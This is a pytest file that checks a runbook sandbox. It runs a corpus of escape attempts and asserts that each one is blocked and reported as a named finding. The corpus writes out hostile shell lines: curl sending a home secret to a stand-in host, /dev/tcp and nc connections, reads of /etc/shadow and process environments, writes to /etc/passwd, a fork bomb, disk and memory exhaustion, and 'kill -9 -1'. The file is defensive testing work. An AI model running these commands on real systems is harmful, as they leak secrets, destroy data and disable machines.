"""Attacks written into runbooks: none gets through, and each is a finding by name.

The corpus runs as whoever runs the tests; where that is root, the sandbox gives root's rights up
first, and the whole corpus runs once more as an ordinary user.
"""

from __future__ import annotations

import contextlib
import json
import os
import platform
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from sim.errors import NoIsolation
from sim.runbook.budgets import Budgets
from sim.runner import sandbox
from sim.runner.shell import Shell

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.runbook.conftest import Done, RunRunbook

SECRET = "this-must-not-be-seen"  # noqa: S105 - the bait
NOBODY = 65534


@dataclass(frozen=True, slots=True)
class Attack:
    """What a block tries, and the findings that must name it."""

    name: str
    code: str
    rules: tuple[str, ...]


ATTACKS = (
    Attack("absolute curl", "/usr/bin/curl -s http://127.0.0.1:PORT/x", ("refused-host",)),
    Attack("command curl", "command curl -s https://outside.example.org/", ("refused-host",)),
    Attack("env -i curl", "env -i curl -s https://outside.example.org/", ("refused-host",)),
    Attack("xargs curl", "echo https://10.1.2.3/ | xargs curl -s", ("refused-host",)),
    Attack("sh curl", "sh -c 'curl -s https://outside.example.org/'", ("refused-host",)),
    Attack(
        "dev tcp",
        "exec 9<>/dev/tcp/127.0.0.1/PORT; echo x >/dev/udp/127.0.0.1/PORT\n"
        "echo x >/dev/tcp/192.0.2.1/80",
        ("network-refused",),
    ),
    Attack("dev tcp name", "echo x >/dev/tcp/outside.example.org/80", ("network-refused",)),
    Attack(
        "python",
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", PORT))'",
        ("no-such-command",),
    ),
    Attack("python path", "/usr/bin/python3 -c 1; /usr/local/bin/python3", ("outside-scratch",)),
    Attack("perl", "perl -MIO::Socket -e 1; /usr/bin/perl -e 1", ("no-such-command",)),
    Attack(
        "wget and nc", "wget -q http://127.0.0.1:PORT/; nc 127.0.0.1 PORT", ("no-such-command",)
    ),
    Attack("sudo", "sudo id; su -c id", ("no-such-command",)),
    Attack("unshare", "unshare -rn true; mount -t tmpfs x /mnt", ("no-such-command",)),
    Attack(
        "write outside",
        "echo x >CANARY; echo x >/etc/passwd; touch /usr/bin/x; mkdir /opt/x\n"
        "echo x >>/opt/real/lib.sh",
        ("write-refused",),
    ),
    Attack("write home", "echo x >HOMEDIR/evil", ("outside-scratch",)),
    Attack(
        "read home",
        "cat HOMEDIR/secret ~/secret; ls -R /home /root; cat /etc/shadow",
        ("outside-scratch",),
    ),
    Attack(
        "send a file",
        "curl -s -d @HOMEDIR/secret https://your-worker.example.com/health/check",
        ("missing-upload-file",),
    ),
    Attack(
        "read the environment",
        "env; cat /proc/1/environ; cat /proc/*/environ | tr '\\0' ' '; jq -n env",
        (),
    ),
    Attack("fork bomb", "b() { b | b & }; b; sleep 1", ("process-budget",)),
    Attack(
        "disk fill",
        "for i in 1 2 3 4 5 6 7 8; do head -c 15M /dev/zero >f$i; done\n"
        "head -c 1G /dev/zero >big; head -c 1G /dev/zero >/tmp/big; rm -f f* big",
        ("disk-budget",),
    ),
    Attack("memory fill", "x=$(head -c 200M /dev/zero | tr '\\0' x)", ("memory-budget",)),
    Attack(
        "daemon",
        "(setsid bash -c 'while [ 1 ]; do read -t 1 <>/sim/idle; done' MARKER &)",
        ("left-running",),
    ),
    Attack("kill everything", "kill -9 -1; kill -TERM 1; echo alive", ("kill-everything",)),
    Attack(
        "symlinks",
        "ln -s HOMEDIR/secret a; cat a; ln -s / b; cat bHOMEDIR/secret; ln -s HOMEDIR/evil c\n"
        "echo x >c; curl -s -o c https://your-worker.example.com/health/status",
        ("left-out", "missing-file", "write-refused"),
    ),
    Attack(
        "a way up",
        "cat ../../../../HOMEDIR/secret; cd ..; ls -a; cd /proc/1/root",
        ("missing-file",),
    ),
    Attack(
        "false frames",
        "printf 'x\\0y\\0' >/sim/ask; printf '2\\0ended\\0x\\0' >/sim/report\n"
        "printf '9999999\\0' >/sim/ask; head -c 1 /sim/lock >/dev/null; echo x >/sim/control",
        (),
    ),
)
"""The corpus; PORT, CANARY, HOMEDIR and MARKER stand for what the test set up on the host."""


@dataclass(frozen=True, slots=True)
class Host:
    """What an attack could reach if it got out."""

    port: int
    heard: list[bytes]
    canary: Path
    home: Path

    @property
    def marker(self) -> str:
        """A word that only this host's processes have."""
        return f"marker-{self.home.parent.name}"

    def text(self, attack: Attack) -> str:
        """The attack as a document whose second block must still run."""
        code = attack.code.replace("PORT", str(self.port)).replace("CANARY", str(self.canary))
        code = code.replace("HOMEDIR", str(self.home)).replace("MARKER", self.marker)
        return f"```bash\n{code}\n```\n\n```bash\necho next\n```\n"

    def is_untouched(self) -> bool:
        """Whether nothing came, and nothing was written."""
        left = sorted(path.name for path in self.home.iterdir())
        return not self.heard and not self.canary.exists() and left == ["secret"]


@pytest.fixture
def host() -> Iterator[Host]:
    """A listener, a home with a secret, and a place where nothing may appear."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.1)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                with contextlib.suppress(TimeoutError):
                    connection, _ = listener.accept()
                    heard.append(connection.recv(1))
                    connection.close()

        thread = threading.Thread(target=listen)
        thread.start()
        folder = Path(tempfile.mkdtemp(prefix="attacked-", dir="/var/tmp"))
        folder.chmod(0o777)
        home = folder / "home"
        home.mkdir()
        home.chmod(0o777)
        (home / "secret").write_text(SECRET)
        try:
            yield Host(listener.getsockname()[1], heard, folder / "canary", home)
        finally:
            over.set()
            thread.join()
            shutil.rmtree(folder)


def _no_process_left(host: Host) -> bool:
    """Nothing with the host's marker runs any more."""
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        # A process may end between the list and the look.
        with contextlib.suppress(OSError):
            if path.parent.name != str(os.getpid()) and host.marker.encode() in path.read_bytes():
                return False
    return True


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_no_attack_gets_through(attack: Attack, host: Host, run_runbook: RunRunbook) -> None:
    """It is named, the host is untouched, nothing is left running, the next block runs."""
    done: Done = run_runbook(host.text(attack), budgets=Budgets(quiet_s=2.0))
    # On a busy machine the wall clock can end it first, which keeps it inside as well.
    told = set(attack.rules) <= set(done.rules) or "wall-clock" in done.rules
    assert told, done.transcript.as_json()
    assert done.transcript.blocks[-1].output == "next\n"
    assert SECRET not in done.transcript.as_json()
    assert not any(SECRET.encode() in content for content in done.saved.values())
    assert host.is_untouched()
    assert _no_process_left(host)


def test_the_environment_is_not_the_callers(
    run_runbook: RunRunbook, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither bash nor jq sees a variable of whoever runs the trainer."""
    monkeypatch.setenv("A_TOKEN", SECRET)
    done = run_runbook("```bash\nenv; echo $A_TOKEN; jq -n '$ENV, env'; cat /proc/*/environ\n```\n")
    assert SECRET not in done.transcript.as_json()


def _as_nobody(words: list[str], folder: Path) -> subprocess.CompletedProcess[str]:
    """Run Python as an ordinary user; skips where no Python can be run by one."""
    paths = [
        str(Path(__file__).parents[2]),
        *(path for path in sys.path if "site-packages" in path),
    ]
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": ":".join(paths), "HOME": str(folder)}
    for python in (sys.executable, "/usr/bin/python3"):
        try:
            done = subprocess.run(
                [python, *words],
                cwd=folder,
                env={**env, "A_TOKEN": SECRET, "MPLCONFIGDIR": str(folder)},
                user=NOBODY,
                group=NOBODY,
                extra_groups=[],
                capture_output=True,
                text=True,
                timeout=120,
                check=False,
            )
        except OSError:
            continue
        if "ModuleNotFoundError" not in done.stderr and "ImportError" not in done.stderr:
            return done
    pytest.skip("no Python here can be run by an ordinary user")


@pytest.mark.slow
def test_an_ordinary_user_is_kept_inside_as_well(host: Host, run_runbook: RunRunbook) -> None:
    """The corpus in one document, run by somebody who is not root."""
    del run_runbook  # skips where there is no sandbox
    if os.geteuid() != 0:
        pytest.skip("the corpus has just run as an ordinary user")
    folder = host.home.parent / "work"
    folder.mkdir()
    os.chown(folder, NOBODY, NOBODY)
    book, out = folder / "attacks.md", folder / "out"
    book.write_text("\n".join(host.text(attack) for attack in ATTACKS))
    words = ["-m", "sim.surfaces.cli.main", "run", "complete-r2-outage", "--responder", str(book)]
    done = _as_nobody([*words, "--out", str(out), "--no-report"], folder)
    assert done.returncode == 0, done.stderr
    text = (out / "runbook.json").read_text()
    data = json.loads(text)
    found = {one["rule"] for part in (data, *data["blocks"]) for one in part["findings"]}
    assert {rule for attack in ATTACKS for rule in attack.rules} <= found
    assert SECRET not in text
    assert all(SECRET not in path.read_text() for path in (out / "saved").glob("*"))
    assert host.is_untouched()
    assert _no_process_left(host)


@pytest.mark.slow
def test_the_second_builder_keeps_it_inside_too(
    host: Host, run_runbook: RunRunbook, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On an older kernel bubblewrap builds the same sandbox."""
    if sandbox.find_bubblewrap() is None:
        pytest.skip("bubblewrap is not installed")
    monkeypatch.setattr(sandbox, "can_build_alone", lambda: False)
    for name in ("write outside", "read home", "dev tcp", "fork bomb", "daemon", "symlinks"):
        attack = next(attack for attack in ATTACKS if attack.name == name)
        done = run_runbook(host.text(attack), budgets=Budgets(quiet_s=2.0))
        assert set(attack.rules) <= set(done.rules), done.transcript.as_json()
        assert SECRET not in done.transcript.as_json()
        assert done.transcript.blocks[-1].output == "next\n"
    assert host.is_untouched()
    assert _no_process_left(host)


def test_without_isolation_it_refuses(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is run on a processor whose system calls no filter is known for."""
    monkeypatch.setattr(platform, "machine", lambda: "riscv64")
    refusal = "no system call filter is known for this processor .riscv64."
    with pytest.raises(NoIsolation, match=refusal), Shell("book.md", Budgets(), {}):
        pytest.fail("it must not start")


def test_an_old_kernel_without_bubblewrap_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    """It says what either way would need."""
    monkeypatch.setattr(platform, "release", lambda: "5.10.0-28-amd64")
    monkeypatch.setattr(sandbox, "find_bubblewrap", lambda: None)
    with pytest.raises(NoIsolation, match=r"older than 5\.12"), Shell("book.md", Budgets(), {}):
        pytest.fail("it must not start")


def test_a_builder_that_fails_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing else is tried behind the user's back."""
    monkeypatch.setattr(sandbox, "can_build_alone", lambda: False)
    monkeypatch.setattr(sandbox, "find_bubblewrap", lambda: "/bin/false")
    with pytest.raises(NoIsolation) as caught, Shell("book.md", Budgets(), {}) as shell:
        shell.be_ready()
    assert caught.value.reasons[0].startswith("bubblewrap: ")
